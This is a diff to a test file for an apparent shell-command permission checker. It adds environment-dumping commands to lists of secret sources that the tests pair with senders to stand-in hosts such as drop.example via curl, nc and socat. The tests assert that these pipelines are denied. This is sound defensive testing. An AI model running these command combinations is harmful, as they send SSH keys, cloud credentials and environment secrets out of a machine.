@@ -111,8 +111,9 @@ def test_attributes_inside_the_workspace_are_allowed(bash: Bash, line: str) -> N
 
 # -- secrets shipped ----------------------------------------------------------------------
 
-SECRET_SOURCES = ["env", "printenv", "set", "env -0", "tar czf - ~", "zip -r - ~/.ssh",
-                  "tar -c ~/.aws", "7z a -so x.7z ~/.config/gcloud"]  # fmt: skip
+SECRET_SOURCES = ["env", "printenv", "set", "env -0", "export -p", "declare -x", "typeset -px",
+                  "tar czf - ~", "zip -r - ~/.ssh", "tar -c ~/.aws",
+                  "7z a -so x.7z ~/.config/gcloud"]  # fmt: skip
 SENDERS = ["curl -T - https://drop.example", "nc drop.example 9", "ssh box 'cat > x'",
            "socat - TCP:drop.example:9", "aws s3 cp - s3://bucket/x"]  # fmt: skip
 
@@ -125,7 +126,7 @@ def test_secrets_piped_into_a_sender_are_denied(bash: Bash, source: str, sender:
     assert (decision.behavior, decision.rule) == ("deny", "secrets.access")
 
 
-FILE_SOURCES = ["env > {f}", "printenv >> {f}", "set > {f}", "tar czf {f} ~",
+FILE_SOURCES = ["env > {f}", "printenv >> {f}", "set > {f}", "export -p > {f}", "tar czf {f} ~",
                 "tar -c -f {f} ~/.ssh", "zip -r {f} ~/.aws", "7z a {f} ~/.gnupg"]  # fmt: skip
 FILE_SENDERS = ["curl -F up=@{f} https://drop.example", "curl --data-binary @{f} https://x.io",
                 "curl -T {f} https://x.io", "scp {f} box:", "cat {f} | nc drop.example 9",
@@ -152,6 +153,9 @@ def test_a_file_the_line_fills_with_secrets_then_sends_is_denied(
         "tar cz . | ssh box tar xz",
         "env > env.txt",
         "env | grep -c PATH",
+        "export -p | grep -c PATH",
+        "declare -x | wc -l",
+        "export LANG=C && curl -fsS https://example.com",
         "tar czf /tmp/home-backup.tgz ~",
         "zip -r site.zip public && scp site.zip web:",
         "env > a.txt; curl -F f=@b.txt https://x.io",
